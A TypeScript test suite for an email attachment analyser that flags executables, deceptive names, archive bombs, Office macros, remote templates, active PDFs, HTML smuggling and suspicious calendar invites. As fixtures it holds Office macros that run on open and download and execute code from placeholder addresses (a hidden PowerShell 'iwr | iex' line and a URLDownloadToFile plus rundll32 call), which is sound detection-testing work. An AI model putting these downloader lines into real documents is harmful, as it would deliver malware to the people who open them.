import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import type { AreaContext } from '../../src/analysis/area.ts';
import { attachmentsArea, tokenFollows } from '../../src/analysis/areas/attachments.ts';
import { inspectAttachments } from '../../src/analysis/attachment-facts.ts';
import { messageContext, type AreaEnvironment } from '../../src/analysis/facts/derived.ts';
import type { SignalCode } from '../../src/contract/signals.ts';
import type { MessageModel } from '../../src/message/model.ts';
import { parseMessage } from '../../src/message/parse.ts';
import { entity, mixed, textPart, type Entity } from '../message/mime.ts';
import {
  JPEG,
  PLAIN_HTML,
  PLAIN_RTF,
  SMUGGLING_HTML,
  base64,
  docx,
  ics,
  isoImage,
  macroPackage,
  ole,
  pdf,
  peStub,
  relationships,
  rtfWithObject,
  storedZip,
  utf8,
  vbaStreams,
  zip,
  type VbaModule,
} from './formats-builders.ts';

const ENVIRONMENT: AreaEnvironment = { signal: new AbortController().signal, deadline: Number.MAX_SAFE_INTEGER, trustedAuthservIds: [], dns: 'off' };
const context = (model: MessageModel, environment: AreaEnvironment = ENVIRONMENT): AreaContext => messageContext(model, environment);

const file = (name: string, bytes: Uint8Array | string, type = 'application/octet-stream'): Entity => ({
  headers: [`Content-Type: ${type}; name="${name}"`, 'Content-Transfer-Encoding: base64', `Content-Disposition: attachment; filename="${name}"`],
  body: base64(bytes),
});

async function signals(parts: readonly Entity[], environment: AreaEnvironment = ENVIRONMENT): Promise<SignalCode[]> {
  const model = await parseMessage(mixed([textPart('Please find the file attached.'), ...parts]));
  return [...(await attachmentsArea.run(model, context(model, environment))).signals].sort();
}

async function signalsWithText(text: string, parts: readonly Entity[]): Promise<SignalCode[]> {
  const model = await parseMessage(mixed([textPart(text), ...parts]));
  return [...(await attachmentsArea.run(model, context(model))).signals].sort();
}

const INVOICE_PDF = pdf([
  '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.example.com/) >> >>] /Contents 4 0 R >>',
  '<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Invoice 2291) Tj ET\nendstream',
]);

describe('attachment facts: one inspection per analysis', () => {
  it('gives every area of an analysis the same inspection, and a new analysis a new one', async () => {
    const model = await parseMessage(mixed([textPart('Invoice attached.'), file('invoice.pdf', INVOICE_PDF, 'application/pdf')]));
    const analysis = context(model);
    const first = inspectAttachments(model, analysis);
    assert.equal(inspectAttachments(model, analysis), first);
    assert.equal(first.files[0]!.facts.text, 'Invoice 2291\n');
    assert.notEqual(inspectAttachments(model, context(model)), first);
  });
  it('stops at the deadline and says so', async () => {
    const model = await parseMessage(mixed([textPart('Invoice attached.'), file('invoice.pdf', INVOICE_PDF, 'application/pdf')]));
    assert.deepEqual(inspectAttachments(model, context(model, { ...ENVIRONMENT, deadline: 0 })), { files: [], cut: true });
  });
});

describe('attachments area: programs and names', () => {
  it('flags a program by its bytes even under a document name, and the lie about its type', async () => {
    assert.deepEqual(await signals([file('invoice.pdf', peStub(), 'application/pdf')]), ['attachment_executable', 'attachment_type_mismatch']);
  });
  it('flags scripts by name', async () => {
    for (const name of ['run.js', 'update.vbs', 'open.hta', 'setup.ps1', 'start.bat', 'notes.one', 'invoice.lnk']) {
      assert.ok((await signals([file(name, 'x')])).includes('attachment_executable'), name);
    }
  });
  it('flags double extensions and reversed names', async () => {
    assert.ok((await signals([file('invoice.pdf.exe', peStub())])).includes('attachment_name_deceptive'));
    assert.ok((await signals([file('invoice\u202Efdp.js', 'x')])).includes('attachment_name_deceptive'));
  });
  it('stays quiet on an ordinary PDF invoice sent as octet-stream', async () => {
    assert.deepEqual(await signals([file('invoice-2291.pdf', INVOICE_PDF)]), []);
  });
  it('stays quiet on inline images', async () => {
    assert.deepEqual(await signals([file('logo.jpg', JPEG, 'image/jpeg')]), []);
  });
});

describe('attachments area: archives', () => {
  it('flags a program inside a zip', async () => {
    assert.deepEqual(await signals([file('docs.zip', zip({ 'invoice.exe': peStub() }), 'application/zip')]), ['attachment_archive_executable']);
  });
  it('flags nested archives and disk images', async () => {
    assert.deepEqual(await signals([file('docs.zip', zip({ 'inner.zip': zip({ 'a.txt': 'hello' }) }))]), ['attachment_archive_nested']);
    assert.deepEqual(await signals([file('scan.iso', isoImage(['SCAN.LNK']))]), ['attachment_archive_executable', 'attachment_archive_nested']);
  });
  it('flags encrypted entries and reports them uninspected', async () => {
    const archive = storedZip([{ name: 'invoice.pdf', data: utf8('encrypted bytes'), encrypted: true }]);
    assert.deepEqual(await signals([file('invoice.zip', archive)]), ['attachment_encrypted', 'coverage_attachment_uninspected']);
  });
  it('refuses a bomb and reports it uninspected', async () => {
    const bomb = storedZip([{ name: 'a.bin', data: new Uint8Array(64), declaredSize: 4_000_000_000 }]);
    assert.deepEqual(await signals([file('a.zip', bomb)]), ['coverage_attachment_uninspected']);
  });
  it('reports containers it does not open as uninspected', async () => {
    assert.deepEqual(await signals([file('docs.7z', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4))]), ['coverage_attachment_uninspected']);
  });
  it('stays quiet on a zip of photos', async () => {
    assert.deepEqual(await signals([file('holiday.zip', zip({ 'IMG_0001.jpg': JPEG, 'IMG_0002.jpg': JPEG }), 'application/zip')]), []);
  });
});

describe('attachments area: the password offered in the text', () => {
  const encrypted = file('invoice.zip', storedZip([{ name: 'invoice.pdf', data: utf8('x'), encrypted: true }]));
  const cases = [
    'The password for the file is: 4471',
    'La contraseña del archivo es 2024abc',
    'Senha: fatura99',
    'Das Passwort lautet: Rechnung7',
    'Le mot de passe est 8812',
  ];
  for (const text of cases) {
    it(`finds "${text}" when an attachment is encrypted`, async () => {
      assert.ok((await signalsWithText(text, [encrypted])).includes('attachment_password_in_body'));
    });
  }
  it('ignores a password in the text when nothing is protected', async () => {
    assert.ok(!(await signalsWithText('Your new password: Welcome2024', [file('a.pdf', INVOICE_PDF)])).includes('attachment_password_in_body'));
  });
  it('ignores sentences about passwords that give none', async () => {
    assert.ok(
      !(await signalsWithText('A password is required to open the attachment; it will be sent separately.', [encrypted])).includes(
        'attachment_password_in_body',
      ),
    );
  });
  it('reads tokens after fillers and separators', () => {
    assert.equal(tokenFollows(' for the archive: "x7Hq2"'), true);
    assert.equal(tokenFollows(' is required'), false);
    assert.equal(tokenFollows(' 4471 attached'), true);
  });
});

describe('attachments area: documents', () => {
  it('flags an OOXML package with a VBA project', async () => {
    const bytes = macroPackage([{ name: 'Module1', source: 'Sub FormatReport()\r\n  Columns("A:F").AutoFit\r\nEnd Sub\r\n' }]);
    assert.deepEqual(await signals([file('report.docm', bytes)]), ['attachment_office_macro']);
  });
  it('says so when a VBA project cannot be read', async () => {
    const bytes = docx({ 'word/vbaProject.bin': ole({ 'VBA/dir': new Uint8Array(8) }) });
    assert.deepEqual(await signals([file('report.docm', bytes)]), ['attachment_office_macro', 'coverage_attachment_uninspected']);
  });
  it('flags a macro that runs on open and starts a downloader: .docm, legacy .xls, and inside a ZIP', async () => {
    const downloader: VbaModule = {
      name: 'ThisDocument',
      source:
        'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iwr https://198.51.100.41/f.ps1 -useb | iex""", 0\r\nEnd Sub\r\n',
      pcode: 300,
    };
    const expected = ['attachment_office_macro', 'attachment_office_macro_dropper'];
    assert.deepEqual(await signals([file('Factuur.docm', macroPackage([downloader]))]), expected);
    const workbook = {
      ...downloader,
      name: 'ThisWorkbook',
      source:
        'Private Sub Workbook_Open()\r\n  URLDownloadToFile 0, "http://198.51.100.41/a.dll", Environ("TEMP") & "\\a.dll", 0, 0\r\n  Shell "rundll32 " & Environ("TEMP") & "\\a.dll,Start"\r\nEnd Sub\r\n',
    };
    assert.deepEqual(
      await signals([file('order.xls', ole({ Workbook: new Uint8Array(600), ...vbaStreams([workbook], '_VBA_PROJECT_CUR/VBA') }), 'application/vnd.ms-excel')]),
      expected,
    );
    assert.deepEqual(await signals([file('order.zip', zip({ 'order.docm': macroPackage([downloader]) }))]), expected);
  });
  it('leaves a spreadsheet that formats itself on open, and a Shell call no procedure runs by itself, as macros', async () => {
    const formatting = macroPackage(
      [
        {
          name: 'ThisWorkbook',
          source:
            'Private Sub Workbook_Open()\r\n  With Sheets("Report").Range("A1:H1")\r\n    .Font.Bold = True\r\n    .Interior.Color = RGB(221, 235, 247)\r\n  End With\r\n  Sheets("Report").Columns("A:H").AutoFit\r\nEnd Sub\r\n',
        },
      ],
      'Report',
      'xl/vbaProject.bin',
    );
    assert.deepEqual(await signals([file('report.xlsm', formatting)]), ['attachment_office_macro']);
    const button = macroPackage(
      [{ name: 'Module1', source: 'Sub OpenExportFolder()\r\n  Shell "explorer.exe " & ThisWorkbook.Path & "\\export", vbNormalFocus\r\nEnd Sub\r\n' }],
      'Export',
      'xl/vbaProject.bin',
    );
    assert.deepEqual(await signals([file('export-tool.xlsm', button)]), ['attachment_office_macro']);
  });
  it('flags a docx that loads a remote template', async () => {
    const bytes = docx({ 'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'http://198.51.100.7/t.dotm', external: true }]) });
    assert.deepEqual(await signals([file('report.docx', bytes)]), ['attachment_office_external_ref']);
  });
  it('flags a legacy document with macros', async () => {
    const project = vbaStreams(
      [{ name: 'NewMacros', source: 'Sub InsertLetterhead()\r\n  Selection.InsertFile "letterhead.docx"\r\nEnd Sub\r\n', pcode: 200 }],
      'Macros/VBA',
    );
    assert.deepEqual(await signals([file('order.doc', ole({ ...project, WordDocument: new Uint8Array(600) }), 'application/msword')]), [
      'attachment_office_macro',
    ]);
  });
  it('flags an encrypted Office document', async () => {
    assert.deepEqual(await signals([file('salary.xlsx', ole({ EncryptionInfo: new Uint8Array(8), EncryptedPackage: new Uint8Array(600) }))]), [
      'attachment_encrypted',
      'coverage_attachment_uninspected',
    ]);
  });
  it('flags an RTF with an Equation Editor object, and a linked object that updates itself', async () => {
    assert.deepEqual(await signals([file('order.rtf', rtfWithObject('02ce020000000000c000000000000046'))]), ['attachment_office_macro']);
    const linked = rtfWithObject(Buffer.from('http://x.invalid/a.hta').toString('hex'), '\\objautlink\\objupdate');
    assert.deepEqual(await signals([file('order.rtf', linked)]), ['attachment_office_external_ref']);
  });
  it('flags a PDF that runs JavaScript when opened', async () => {
    const bytes = pdf(['<< /Type /Catalog /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName: "a", nLaunch: 2}\\)) >> >>']);
    assert.deepEqual(await signals([file('statement.pdf', bytes, 'application/pdf')]), ['attachment_pdf_active']);
  });
  it('flags a PDF embedding a program, not an e-invoice embedding its XML', async () => {
    const embedding = (name: string): Uint8Array =>
      pdf([
        '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(f) 2 0 R] >> >> >>',
        `<< /Type /Filespec /F (${name}) /EF << /F 3 0 R >> >>`,
        '<< /Type /EmbeddedFile /Length 0 >>',
      ]);
    assert.deepEqual(await signals([file('a.pdf', embedding('update.exe'))]), ['attachment_pdf_active']);
    assert.deepEqual(await signals([file('a.pdf', embedding('factur-x.xml'))]), []);
  });
  it('stays quiet on a plain docx and plain RTF', async () => {
    assert.deepEqual(await signals([file('report.docx', docx())]), []);
    assert.deepEqual(await signals([file('report.rtf', PLAIN_RTF)]), []);
  });
});

describe('attachments area: HTML', () => {
  it('flags an HTML attachment', async () => {
    assert.deepEqual(await signals([file('receipt.html', PLAIN_HTML, 'text/html')]), ['attachment_html']);
  });
  it('flags HTML smuggling', async () => {
    assert.deepEqual(await signals([file('document.html', SMUGGLING_HTML, 'text/html')]), ['attachment_html', 'attachment_html_smuggling']);
  });
  it('flags an "image" that is a web page', async () => {
    assert.deepEqual(await signals([file('scan.png', PLAIN_HTML, 'image/png')]), ['attachment_html', 'attachment_type_mismatch']);
  });
  it('flags HTML inside an archive', async () => {
    assert.deepEqual(await signals([file('docs.zip', zip({ 'login.htm': SMUGGLING_HTML }))]), ['attachment_html', 'attachment_html_smuggling']);
  });
});

describe('attachments area: machine-made names', () => {
  it('flags a file named by a mass-mailing kit, not a scanner’s or a camera’s', async () => {
    assert.deepEqual(await signals([file('Q7XW2KD9LM4PZ.jpg', JPEG)]), ['attachment_name_random']);
    assert.deepEqual(await signals([file('IMG_20250304_101122.jpg', JPEG)]), []);
    const inline = file('Q7XW2KD9LM4PZ.png', JPEG, 'image/png');
    assert.deepEqual(await signals([{ ...inline, headers: inline.headers.map((line) => line.replace('attachment;', 'inline;')) }]), []);
    assert.deepEqual(await signals([file('Scan_0042.pdf', INVOICE_PDF)]), []);
  });
});

describe('attachments area: calendar invitations', () => {
  const calendar = (body: string): Entity => ({
    headers: ['Content-Type: text/calendar; method=REQUEST; charset=utf-8', 'Content-Disposition: attachment; filename="invite.ics"'],
    body,
  });
  it('flags an invitation organised by someone other than the sender', async () => {
    assert.deepEqual(await signals([calendar(ics('billing@payments.invalid'))]), ['attachment_calendar_invite']);
    assert.deepEqual(await signals([calendar(ics(undefined))]), ['attachment_calendar_invite']);
  });
  it("flags the sender's own invitation whose event links past the meeting services", async () => {
    assert.deepEqual(await signals([calendar(ics('ana@example.org', 'DESCRIPTION:Review your letter first: https://example.org/letter?id=bo'))]), [
      'attachment_calendar_invite',
    ]);
    assert.deepEqual(await signals([calendar(ics('ana@example.org', 'URL:https://people-portal.example.com/comp'))]), ['attachment_calendar_invite']);
  });
  it("stays quiet on the sender's own calendar invitation", async () => {
    assert.deepEqual(await signals([calendar(ics('ana@example.org'))]), []);
    assert.deepEqual(
      await signals([calendar(ics('ana@example.org', 'DESCRIPTION:Join: https://us06web.zoom.us/j/844?pwd=x\\nHelp: https://aka.ms/JoinTeamsMeeting'))]),
      [],
    );
    assert.deepEqual(await signals([calendar(ics('ana@example.org', 'LOCATION:https://meet.google.com/abc-defg-hij'))]), []);
    assert.deepEqual(await signals([calendar(ics('ana@mail.example.org'))]), []);
  });
});

describe('attachments area: messages and limits', () => {
  it('looks inside attached messages', async () => {
    const inner = mixed([textPart('fwd'), file('run.vbs', 'x')], {}, 'inner');
    const outer = entity(
      ['From: Ana <ana@example.org>', 'To: bo@example.net', 'Subject: fwd', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b0"'],
      `--b0\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b0\r\nContent-Type: message/rfc822\r\n\r\n${new TextDecoder().decode(inner)}\r\n--b0--\r\n`,
    );
    const model = await parseMessage(outer);
    assert.deepEqual([...(await attachmentsArea.run(model, context(model))).signals], ['attachment_executable']);
  });
  it('reports everything uninspected once the deadline has passed', async () => {
    const late = { ...ENVIRONMENT, deadline: Date.now() - 1 };
    assert.deepEqual(await signals([file('a.zip', zip({ 'a.exe': peStub() }))], late), ['coverage_attachment_uninspected']);
  });
  it('stays quiet on a message without attachments', async () => {
    const model = await parseMessage(mixed([textPart('Hello')]));
    assert.deepEqual([...(await attachmentsArea.run(model, context(model))).signals], []);
  });
});
